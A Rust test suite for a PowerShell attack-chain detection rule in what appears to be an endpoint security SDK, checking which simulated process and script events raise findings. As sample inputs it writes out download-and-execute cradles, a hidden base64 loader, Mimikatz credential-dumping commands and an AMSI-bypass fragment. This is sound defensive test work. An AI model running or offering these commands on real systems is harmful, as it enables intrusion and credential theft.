use sandtrap_sdk::{
    Finding, Severity, class, field,
    signatures::State,
    testing::{self, TestEvent, World, event, launch, process},
};
use serde_json::{Value, json};

use super::*;

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const ENGINE: &str = r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Mana57fc8cc#\ab\System.Management.Automation.ni.dll";
const DAY: i64 = 24 * 60 * 60 * 1000;

fn encode(script: &str) -> String {
    const SYMBOLS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let symbols = bytes.chunks(3).flat_map(|group| {
        let value = (0..3).fold(0, |value, at| {
            value << 8 | u32::from(*group.get(at).unwrap_or(&0))
        });
        (0..4).map(move |at| match at {
            at if at > group.len() => '=',
            at => char::from(SYMBOLS[(value >> (18 - 6 * at)) as usize & 63]),
        })
    });
    symbols.collect()
}

fn encoded(switches: &str, script: &str) -> String {
    format!("powershell.exe {switches} {}", encode(script))
}

fn cradle() -> String {
    encoded(
        "-nop -w hidden -enc",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
    )
}

fn found_with(world: World, settings: Value, site: Value, events: Vec<TestEvent>) -> Vec<Finding> {
    testing::run::<PowershellChain>(world, settings, site, events)
}

fn found(world: World, events: Vec<TestEvent>) -> Vec<Finding> {
    found_with(world, json!({}), json!({}), events)
}

fn behind(image: &str) -> World {
    World::new().process(process(1).image(image))
}

fn started(line: &str) -> TestEvent {
    launch(2)
        .child_of(1)
        .image(POWERSHELL)
        .command_line(line)
        .at(1_000)
}

fn connects(process: u64, ip: &str) -> TestEvent {
    event(class::NETWORK_OPEN)
        .by(process)
        .set(field::CONNECTION_INFO_OUTBOUND, 1)
        .set(field::DST_ENDPOINT_IP, ip)
        .set(field::DST_ENDPOINT_PORT, 443)
}

fn loads(process: u64, image: &str, module: &str) -> TestEvent {
    event(class::MODULE_LOAD)
        .by(process)
        .set(field::ACTOR_PROCESS_FILE_PATH, image)
        .set(field::MODULE_FILE_PATH, module)
}

#[test]
fn the_description_is_acceptable() {
    testing::check::<PowershellChain>();
}

#[test]
fn an_encoded_cradle_from_a_script_host_that_connects_is_found_once() {
    let events = vec![
        started(&cradle()),
        connects(2, "203.0.113.9"),
        connects(2, "203.0.113.9"),
    ];
    let found = found(behind(WSCRIPT), events);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].severity, Severity::High);
    assert!(
        found[0]
            .title
            .starts_with("powershell.exe, started by wscript.exe, ran an encoded")
    );
    let decoded = found[0]
        .details
        .iter()
        .find(|detail| detail.name == "decoded command");
    assert!(decoded.unwrap().value.contains("DownloadString"));
}

#[test]
fn events_may_come_in_any_order() {
    let line = encoded("-enc", "Invoke-RestMethod http://198.51.100.7/a");
    let late = vec![connects(2, "203.0.113.9").at(500), started(&line)];
    let world = behind(WSCRIPT).process(process(2).image(POWERSHELL));
    let found = found(world, late);
    assert_eq!(found.len(), 1);
    assert!(
        found[0]
            .stages
            .iter()
            .any(|stage| stage.name == "effect.connection")
    );
}

#[test]
fn hidden_code_in_base64_needs_no_odd_parent() {
    let line = encoded(
        "-exec bypass -e",
        "Invoke-WmiMethod -Path win32_process -Name create -ArgumentList calc.exe",
    );
    let found = found(behind(r"C:\Windows\System32\cmd.exe"), vec![started(&line)]);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Severity::Medium);
}

#[test]
fn every_spelling_of_the_switch_is_read() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
    for switch in ["-e", "/EnC", "\u{2013}encodedcommand", "--ec", "-eNcOd"] {
        let line = encoded(&format!("-w 1 -noni {switch}"), script);
        assert_eq!(
            found(behind(WSCRIPT), vec![started(&line)]).len(),
            1,
            "{switch}"
        );
    }
}

#[test]
fn a_renamed_copy_gives_itself_away_by_its_switches() {
    let line = cradle().replace("powershell.exe", "updater.exe");
    let image = r"C:\Users\a\updater.exe";
    let events = vec![launch(2).child_of(1).image(image).command_line(&line)];
    let found = found(behind(r"C:\Windows\explorer.exe"), events);
    assert_eq!(found.len(), 1);
    assert!(
        found[0]
            .stages
            .iter()
            .any(|stage| stage.name == "origin.renamed")
    );
}

#[test]
fn a_service_that_is_a_shell_line_is_odd() {
    let line = "powershell.exe -nop -w hidden -noni -c \"&([scriptblock]::create((New-Object \
                IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(\
                ,[Convert]::FromBase64String('H4sIA'))),[IO.Compression.CompressionMode]\
                ::Decompress))).ReadToEnd()))\"";
    let world = World::new()
        .process(process(9).image(r"C:\Windows\System32\services.exe"))
        .process(process(1).image(r"C:\Windows\System32\cmd.exe").child_of(9));
    let found = found(world, vec![started(line)]);
    assert_eq!(found.len(), 1);
    assert!(
        found[0].title.contains("started by services.exe"),
        "{}",
        found[0].title
    );
}

#[test]
fn the_engine_in_notepad_is_found_with_and_without_an_injection() {
    let notepad = r"C:\Windows\System32\notepad.exe";
    let injected = event(class::PROCESS_INJECT)
        .by(1)
        .set(field::PROCESS_HANDLE, 3)
        .set(field::PROCESS_FILE_PATH, notepad);
    let both = found(
        behind(POWERSHELL),
        vec![injected.clone(), loads(3, notepad, ENGINE)],
    );
    assert_eq!(both.len(), 1);
    assert!(
        both[0]
            .title
            .contains("after another process started a thread in it")
    );
    let alone = found(World::new(), vec![loads(3, notepad, ENGINE)]);
    assert_eq!(alone[0].severity, Severity::Medium);
    assert!(found(behind(POWERSHELL), vec![injected]).is_empty());
}

#[test]
fn a_dropped_program_that_hosts_the_engine_is_judged_with_earlier_connections() {
    let image = r"C:\Users\a\Downloads\tool.exe";
    let world = || World::new().process(process(3).image(image));
    let events = vec![
        connects(3, "203.0.113.9").at(0),
        loads(3, image, ENGINE).at(60_000),
    ];
    assert_eq!(found(world(), events).len(), 1);
    let late = vec![
        connects(3, "203.0.113.9").at(0),
        loads(3, image, ENGINE).at(2 * 3_600_000),
    ];
    assert!(found(world(), late).is_empty());
}

#[test]
fn the_pipe_of_the_engine_stands_in_for_its_modules() {
    let image = r"C:\Users\a\Desktop\tool.exe";
    let pipe = event(class::PIPE_CREATE)
        .by(3)
        .set(field::ACTOR_PROCESS_FILE_PATH, image)
        .set(field::FILE_PATH, r"\PSHost.1.7240.DefaultAppDomain.tool");
    let world = || World::new().process(process(3).image(image));
    assert!(found(world(), vec![pipe.clone()]).is_empty());
    assert_eq!(
        found(world(), vec![pipe, connects(3, "203.0.113.9")]).len(),
        1
    );
}

#[test]
fn powershell_s_own_log_stands_in_for_the_launch() {
    let engine = |process: Option<u64>| {
        let event = event(class::SCRIPT_ENGINE)
            .set(field::METADATA_EVENT_CODE, 400)
            .set(field::SCRIPT_HOST_NAME, "ConsoleHost")
            .set(field::SCRIPT_HOST_APPLICATION, &cradle());
        match process {
            Some(process) => event.by(process),
            None => event,
        }
    };
    let by_process = found(World::new(), vec![engine(Some(5))]);
    assert_eq!((by_process.len(), by_process[0].process), (1, Some(5)));
    let by_name = found(World::new(), vec![engine(None)]);
    assert_eq!((by_name.len(), by_name[0].process), (1, None));
    assert!(
        by_name[0]
            .title
            .starts_with("powershell.exe ran an encoded command")
    );
}

#[test]
fn each_weak_stage_alone_is_silent() {
    let explorer = r"C:\Windows\explorer.exe";
    let admin = "Get-Service | Where-Object Status -eq Running";
    let word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    let lines = [
        (
            explorer,
            encoded("-NoProfile -ExecutionPolicy Bypass -EncodedCommand", admin),
        ),
        (
            explorer,
            "powershell.exe -nop -w hidden -File C:\\Tools\\a.ps1".to_owned(),
        ),
        (
            explorer,
            "powershell.exe -Version 2 -Command Get-Date".to_owned(),
        ),
        (explorer, "powershell.exe -Command -".to_owned()),
        (
            explorer,
            "powershell.exe -c \"iex (irm http://intranet/a.ps1)\"".to_owned(),
        ),
        (word, "powershell.exe".to_owned()),
        (
            WSCRIPT,
            "powershell.exe -File \\\\dc\\netlogon\\map.ps1".to_owned(),
        ),
        (
            r"C:\Users\a\AppData\Local\Temp\setup.exe",
            "powershell.exe Get-Date".to_owned(),
        ),
    ];
    for (parent, line) in lines {
        let found = found(behind(parent), vec![started(&line)]);
        assert!(found.is_empty(), "{line}: {found:#?}");
    }
    let script = event(class::SCRIPT_EXECUTE).by(2).set(
        field::SCRIPT_CONTENT,
        "[Ref].Assembly.GetType('...AmsiUtils'); mimikatz; -bxor",
    );
    assert!(found(World::new(), vec![script]).is_empty());
    assert!(found(World::new(), vec![connects(2, "203.0.113.9")]).is_empty());
}

#[test]
fn effects_of_an_ordinary_console_are_everyday() {
    let child = launch(3)
        .child_of(2)
        .image(r"C:\Windows\System32\schtasks.exe")
        .command_line("schtasks /query");
    let script = event(class::SCRIPT_EXECUTE).by(2).set(
        field::SCRIPT_CONTENT,
        "Add-Type; IEX (New-Object Net.WebClient).DownloadString($a)",
    );
    let events = vec![
        started("powershell.exe"),
        connects(2, "203.0.113.9"),
        child,
        script,
    ];
    assert!(found(behind(r"C:\Windows\explorer.exe"), events).is_empty());
}

#[test]
fn management_does_not_alert() {
    // Ansible over WinRM: the module arrives on standard input.
    let ansible = encoded(
        "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand",
        "&chcp.com 65001 > $null; $in = $input | Out-String; &([ScriptBlock]::Create($in))",
    );
    let winrs = behind(r"C:\Windows\System32\winrshost.exe");
    assert!(found(winrs, vec![started(&ansible)]).is_empty());

    let monitoring = encoded(
        "-NonInteractive -EncodedCommand",
        "Get-WmiObject Win32_Process | Select-Object Name",
    );
    let agent = r"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe";
    let events = vec![started(&monitoring), connects(2, "10.0.0.5")];
    assert!(found(behind(agent), events).is_empty());

    let mapping = "powershell.exe -Ex Bypass -NoProfile -WindowStyle Hidden -File \
                   C:\\ProgramData\\maps\\DriveMapping.ps1";
    assert!(found(behind(WSCRIPT), vec![started(mapping)]).is_empty());

    let choco = "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object \
                 System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"";
    let events = vec![started(choco), connects(2, "203.0.113.9")];
    assert!(found(behind(r"C:\Windows\System32\cmd.exe"), events).is_empty());
}

#[test]
fn approved_deployment_does_not_alert_whatever_it_encodes() {
    let agent = r"C:\Program Files\Deployer\agent.exe";
    let events = vec![started(&cradle()), connects(2, "203.0.113.9")];
    let site = json!({ "approved_deployment_paths": [agent] });
    assert!(found_with(behind(agent), json!({}), site, events.clone()).is_empty());
    assert!(!found(behind(agent), events).is_empty());
}

#[test]
fn usual_hosts_of_the_engine_are_silent() {
    let provider = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
    let world = || World::new().process(process(3).image(provider));
    let events = vec![loads(3, provider, ENGINE), connects(3, "203.0.113.9")];
    assert!(found(world(), events).is_empty());
    let signed = r"C:\Users\a\AppData\Local\Tool\tool.exe";
    let world =
        World::new()
            .process(process(3).image(signed))
            .signature(signed, State::Valid, "A Vendor");
    let events = vec![loads(3, signed, ENGINE), connects(3, "203.0.113.9")];
    assert!(found(world, events).is_empty());
}

#[test]
fn old_acquaintances_lose_their_score() {
    let line = encoded("-nop -noni -enc", "IEX (Get-Content C:\\jobs\\a.txt -Raw)");
    let run = |day: i64, handle: u64| {
        launch(handle)
            .on(&format!("device-{}", handle % 5))
            .image(POWERSHELL)
            .command_line(&line)
            .set(
                field::PROCESS_PARENT_PROCESS_FILE_PATH,
                r"C:\Windows\System32\inetsrv\w3wp.exe",
            )
            .at(day * DAY)
    };
    let last = |findings: Vec<Finding>| findings.into_iter().any(|it| it.process == Some(120));
    assert!(last(found(World::new(), vec![run(30, 120)])));
    let mut events: Vec<_> = (1..=8)
        .map(|day| run(day, 100 + day.unsigned_abs()))
        .collect();
    events.push(run(30, 120));
    assert!(!last(found(World::new(), events)));
}

#[test]
fn a_parent_nobody_knows_adds_to_the_chain() {
    let world = behind(r"C:\Windows\explorer.exe").learning_since("parent", -30 * DAY);
    let line = encoded(
        "-exec bypass -enc",
        "Invoke-RestMethod http://198.51.100.7/a",
    );
    let found = found(world, vec![started(&line)]);
    assert_eq!(found.len(), 1);
    assert!(
        found[0]
            .stages
            .iter()
            .any(|stage| stage.name == "lineage.never-seen")
    );
}

#[test]
fn a_loader_of_stolen_secrets_in_recorded_text_is_found_without_a_launch() {
    let script = |text: &str| {
        vec![
            event(class::SCRIPT_EXECUTE)
                .by(2)
                .set(field::SCRIPT_CONTENT, text),
        ]
    };
    let loader = "$a = [Reflection.Assembly]::Load($b); VirtualAlloc; sekurlsa::logonpasswords";
    assert_eq!(found(World::new(), script(loader)).len(), 1);
    let helper = "Add-Type -TypeDefinition $code; $host.UI.PromptForCredential('a')";
    assert!(found(World::new(), script(helper)).is_empty());
}

#[test]
fn detection_can_be_scoped_to_hours() {
    // The epoch was a Thursday.
    let night = json!({ "TimeWindow": [{ "days": ["thu"], "from": "20:00", "to": "06:00" }] });
    let at = |hour: i64| vec![started(&cradle()).at(hour * 3_600_000)];
    assert!(found_with(behind(WSCRIPT), night.clone(), json!({}), at(12)).is_empty());
    assert_eq!(
        found_with(behind(WSCRIPT), night, json!({}), at(21)).len(),
        1
    );
}

#[test]
fn settings_that_make_no_sense_are_refused() {
    for (settings, part) in [
        (json!({ "CommandLinePattern": "" }), "ordinary"),
        (json!({ "CommandLinePattern": ".*" }), "ordinary"),
        (json!({ "CommandLinePattern": "(" }), "CommandLinePattern"),
        (json!({ "ParentProcessName": ["*"] }), "plain file name"),
        (json!({ "EngineHosts": ["*"] }), "any program"),
        (json!({ "AlertThreshold": 0 }), "AlertThreshold"),
        (
            json!({ "TimeWindow": [{ "from": "25:00", "to": "04:00" }] }),
            "TimeWindow",
        ),
        (json!({ "TrustedSources": ["http"] }), "TrustedSources"),
        (json!({ "Unknown": 1 }), "Unknown"),
    ] {
        let reason = testing::refusal::<PowershellChain>(settings.clone(), json!({}));
        assert!(
            reason.as_ref().is_some_and(|reason| reason.contains(part)),
            "{settings}: {reason:?}"
        );
    }
}

#[test]
fn hidden_code_past_the_policy_counts_like_hidden_code_without_a_profile() {
    let mshta = r"C:\Windows\System32\mshta.exe";
    let line = "powershell.exe -w hidden -ep bypass -c \"iwr http://198.51.100.7/x -OutFile x\"";
    assert_eq!(found(behind(mshta), vec![started(line)]).len(), 1);
    let file = "powershell.exe -w hidden -ep bypass -File C:\\Tools\\map.ps1";
    assert!(found(behind(mshta), vec![started(file)]).is_empty());
}

#[test]
fn a_cradle_past_the_policy_is_enough_where_it_names_credentials() {
    let cmd = r"C:\Windows\System32\cmd.exe";
    let line = |rest: &str| {
        format!(
            "powershell.exe -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString(\
             'http://198.51.100.7/a'){rest}\""
        )
    };
    let graver = line("; Invoke-Mimikatz -DumpCreds");
    assert_eq!(found(behind(cmd), vec![started(&graver)]).len(), 1);
    assert!(found(behind(cmd), vec![started(&line(""))]).is_empty());
}

#[test]
fn code_that_a_shell_hands_over_is_read_from_the_shell() {
    let cmd = r"C:\Windows\System32\cmd.exe";
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
    let shells = [
        (
            format!("cmd /c \"set x={cradle}&& powershell (ls env:x).Value|iex\""),
            "powershell  (ls env:x).Value|iex",
        ),
        (
            format!("cmd /c \"echo {cradle} | powershell -nop -\""),
            "powershell  -nop -",
        ),
    ];
    for (shell, line) in shells {
        let event = started(line).set(field::PROCESS_PARENT_PROCESS_CMD_LINE, &shell);
        assert_eq!(found(behind(cmd), vec![event]).len(), 1, "{shell}");
    }
    let harmless = started("powershell  -nop -").set(
        field::PROCESS_PARENT_PROCESS_CMD_LINE,
        "cmd /c \"type C:\\Scripts\\a.ps1 | powershell -nop -\"",
    );
    assert!(found(behind(cmd), vec![harmless]).is_empty());
    // The Security log tells the parent's command line with the parent alone.
    let world = World::new().process(
        process(1)
            .image(cmd)
            .command_line(&format!("cmd /c \"echo {cradle} | powershell -nop -\"")),
    );
    let launched = started("powershell  -nop -");
    let launched = launched.set(field::PROCESS_PARENT_PROCESS_HANDLE, 1);
    assert_eq!(found(world, vec![launched]).len(), 1);
}

#[test]
fn a_library_of_a_user_s_that_hosts_the_engine_in_a_program_of_windows_is_found() {
    let image = r"C:\Windows\System32\rundll32.exe";
    let line = r"rundll32.exe C:\Users\a\Downloads\x.dll,main";
    let world = World::new().process(process(3).image(image).command_line(line));
    assert_eq!(found(world, vec![loads(3, image, ENGINE)]).len(), 1);
}

#[test]
fn the_log_is_read_although_lineage_knows_the_command_line_from_it() {
    let engine = event(class::SCRIPT_ENGINE)
        .by(5)
        .set(field::METADATA_EVENT_CODE, 400)
        .set(field::SCRIPT_HOST_APPLICATION, &cradle());
    let world = World::new().process(process(5).command_line(&cradle()));
    assert_eq!(found(world, vec![engine]).len(), 1);
}

#[test]
fn a_script_of_nobody_is_judged_by_itself() {
    let script = |text: &str| event(class::SCRIPT_EXECUTE).set(field::SCRIPT_CONTENT, text);
    let loader = "$a = VirtualAlloc; [Reflection.Assembly]::Load($x)";
    let secrets = "sekurlsa::logonpasswords";
    let both = format!("{loader}; {secrets}");
    assert_eq!(found(World::new(), vec![script(&both)]).len(), 1);
    let apart = vec![script(loader), script(secrets)];
    assert!(found(World::new(), apart).is_empty());
}

#[test]
fn wrappers_of_remote_configuration_are_silent() {
    let wrapper = "$x = $input | Out-String; $w = [ScriptBlock]::Create($x); &$w";
    let line = encoded(
        "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand",
        wrapper,
    );
    let host = r"C:\Windows\System32\winrshost.exe";
    assert!(found(behind(host), vec![started(&line)]).is_empty());
}
